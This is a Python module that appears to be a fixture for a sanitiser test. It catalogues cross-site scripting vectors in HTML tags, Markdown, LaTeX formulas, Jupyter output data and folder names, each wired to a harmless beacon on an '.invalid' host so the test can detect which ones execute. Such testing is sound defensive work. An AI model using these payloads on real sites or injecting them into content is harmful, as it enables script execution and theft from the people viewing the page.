"""Ways in which a learner's text could act in the page of whoever opens it: each runs `ran(№)` or loads `LOADED/№`."""

from __future__ import annotations

from html import escape

LOADED = "http://beacon.invalid/loaded"
# Every page gets this before anything else: what a vector calls.
INSTRUMENT = "window.ran = number => { new Image().src = 'http://beacon.invalid/ran/' + number; };"
# What a reader may do by mistake with everything in an answer; returns how many elements there are. A link to another
# page of the same server is not followed: the page that is looked at would be gone in the middle of it.
PROVOKE = """elements => {
  document.addEventListener("click", event => {
    const link = event.target.closest("a[href]");
    if (link && link.origin === location.origin && /^(https?|file):$/.test(link.protocol)) event.preventDefault();
  }, true);
  for (const element of elements) {
    for (const kind of ["mouseover", "mouseenter", "focus", "toggle", "submit"])
      element.dispatchEvent(new Event(kind));
    if (typeof element.click === "function") element.click();
    else element.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}));
  }
  return elements.length;
}"""

_SCRIPT = "<script>ran(№)</script>"
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg'>{_SCRIPT}<image href='{LOADED}/№'/></svg>"


# № is the vector's number.
TAGS = [
    _SCRIPT,
    f'<script src="{LOADED}/№"></script>',
    "<SCRIPT\n>ran(№)</SCRIPT\n>",
    "<img src=x onerror=ran(№)>",
    '<img src="x" onerror="ran(№)"',
    "<IMG/SRC=x/ONERROR=ran(№)>",
    f'<img src="{LOADED}/№">',
    f'<img srcset="{LOADED}/№ 1x">',
    f'<picture><source srcset="{LOADED}/№"><img src="data:,"></picture>',
    "<svg onload=ran(№)></svg>",
    "<svg><script>ran(№)</script></svg>",
    "<svg><animate onbegin=ran(№) attributeName=x dur=1s></animate></svg>",
    f'<svg><image href="{LOADED}/№" width="9" height="9"></image></svg>',
    "<svg><foreignObject><img src=x onerror=ran(№)></foreignObject></svg>",
    '<svg><a href="javascript:ran(№)"><text y="20">click</text></a></svg>',
    "<math><mtext><img src=x onerror=ran(№)></mtext></math>",
    '<math><a href="javascript:ran(№)">click</a></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran(№)&gt;">',
    '<iframe src="javascript:top.ran(№)"></iframe>',
    '<iframe srcdoc="<script>top.ran(№)</script>"></iframe>',
    f'<iframe src="{LOADED}/№"></iframe>',
    '<iframe src="data:text/html,<script>ran(№)</script>"></iframe>',
    '<object data="data:text/html,<script>ran(№)</script>"></object>',
    f'<object data="{LOADED}/№"></object>',
    f'<embed src="{LOADED}/№">',
    f'<link rel="stylesheet" href="{LOADED}/№">',
    f'<style>@import url("{LOADED}/№");</style>',
    f'<div style="background: url({LOADED}/№)">a</div>',
    f'<style>p {{ background: url("{LOADED}/№") }}</style>\n\na',
    f'<style>@font-face {{ font-family: f; src: url("{LOADED}/№") }} p {{ font-family: f }}</style>\n\na',
    f'<meta http-equiv="refresh" content="0; url={LOADED}/№">',
    f'<base href="{LOADED}/№/"><img src="x">',
    f'<form action="{LOADED}/№"><button>click</button></form>',
    '<form><button formaction="javascript:ran(№)">click</button></form>',
    "<input autofocus onfocus=ran(№)>",
    "<details open ontoggle=ran(№)>a</details>",
    "<video><source src=x onerror=ran(№)></video>",
    f'<video poster="{LOADED}/№"></video>',
    "<audio src=x onerror=ran(№)></audio>",
    "<p onmouseover=ran(№)>a</p>",
    '<a href="javascript:ran(№)">click</a>',
    '<a href="jav&#x09;ascript:ran(№)">click</a>',
    "<!--><img src=x onerror=ran(№)>-->",
    "<?a ?><img src=x onerror=ran(№)>",
    "<![CDATA[ ]]><img src=x onerror=ran(№)>",
    '<noscript><p title="</noscript><img src=x onerror=ran(№)>">',
    "</div></div></div><img src=x onerror=ran(№)>",
    "<custom-tag tabindex=1 onfocus=ran(№)>a</custom-tag>",
]
MARKDOWN = [
    f"![a]({LOADED}/№)",
    f"![a][b]\n\n[b]: {LOADED}/№",
    f'![a](<{LOADED}/№> "title")',
    "[click](javascript:ran(№))",
    "[click](<javascript:ran(№)>)",
    "[click]( javascript:ran%28№%29 'title')",
    "[click](&#106;avascript:ran(№))",
    "[click](JaVaScRiPt&colon;ran(№))",
    "[click][a]\n\n[a]: javascript:ran(№)",
    "[click]\n\n[click]:\n  <javascript:ran(№)>",
    "[click](data:text/html,<script>ran(№)</script>)",
    f"![a](data:image/svg+xml,<svg/xmlns='http://www.w3.org/2000/svg'><image/href='{LOADED}/№'/></svg>)",
    "[click](vbscript:ran(№))",
    f"[![a]({LOADED}/№)](javascript:ran(№))",
    "<javascript:ran(№)>",
    "| a |\n|---|\n| <img src=x onerror=ran(№)> |",
    "1. a\n   - <img src=x onerror=ran(№)>",
    "> > <img src=x onerror=ran(№)>",
    "`` a ` <img src=x onerror=ran(№)> ` b",
    '```"><img src=x onerror=ran(№)>\na\n```',
    "```mermaid\n<img src=x onerror=ran(№)>\n```",
    "# <img src=x onerror=ran(№)>",
    "term\n: <img src=x onerror=ran(№)>",
    "\\<img src=x onerror=ran(№)>\\\\<img src=x onerror=ran(№)>",
    "![a](attachment:a.svg)<img src=x onerror=ran(№)>",
]
FORMULAS = [
    "$<img src=x onerror=ran(№)>$",
    "$$\\text{<img src=x onerror=ran(№)>}$$",
    "\\begin{equation}<img src=x onerror=ran(№)>\\end{equation}",
    "$\\href{javascript:ran(№)}{click}$",
    "\\\\(\\href{javascript:ran(№)}{click}\\\\)",
    "&#36;&#92;href{javascript:ran(№)}{click}&#36;",
    "$\\def\\a#1{\\href#1}\\a{{javascript:ran(№)}{click}}$",
    "$\\mmlToken{mi}[href='javascript:ran(№)']{click}$",
    f"$\\style{{background: url({LOADED}/№)}}{{a}}\\class{{comment}}{{b}}\\cssId{{statusmessage}}{{c}}$",
    f"$\\require{{{LOADED}/№}}\\bbox[background: url({LOADED}/№)]{{a}}$",
    f"$\\unicode[url({LOADED}/№)]{{x3C}}$",
]
# Each is the data of an output, as `display(…, raw=True)` would show it.
OUTPUTS = [
    {"text/html": "<img src=x onerror=ran(№)>"},
    {"text/html": f'<iframe srcdoc="{escape(_SCRIPT)}"></iframe>'},
    {"text/html": _SCRIPT, "text/plain": "<img src=x onerror=ran(№)>"},
    {"application/javascript": "ran(№)"},
    {"image/svg+xml": _SVG},
    {"text/markdown": "<img src=x onerror=ran(№)>"},
    {"text/latex": "$<img src=x onerror=ran(№)>$"},
    {"image/png": '"><img src=x onerror=ran(№)>'},
    {"image/jpeg": '"><img src=x onerror=ran(№)>'},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>ran(№)</script>"}},
    {"application/vnd.vegalite.v5+json": {"usermeta": {"embedOptions": {"loader": {"baseURL": LOADED + "/№"}}}}},
    {"text/plain": "\x1b]8;;javascript:ran(№)\x07<img src=x onerror=ran(№)>\x1b[0m"},
]
# A folder's name, so without a slash.
NAMES = [
    "<img src=x onerror=ran(№)>",
    '";ran(№);"',
    '" onmouseover="ran(№)',
    "<svg onload=ran(№)>",
    "&lt;img src=x onerror=ran(№)&gt;",
]


def numbered(vectors: list[str], first: int) -> dict[int, str]:
    """Return vectors by their number, which takes the place of №."""
    return {first + place: vector.replace("№", str(first + place)) for place, vector in enumerate(vectors)}
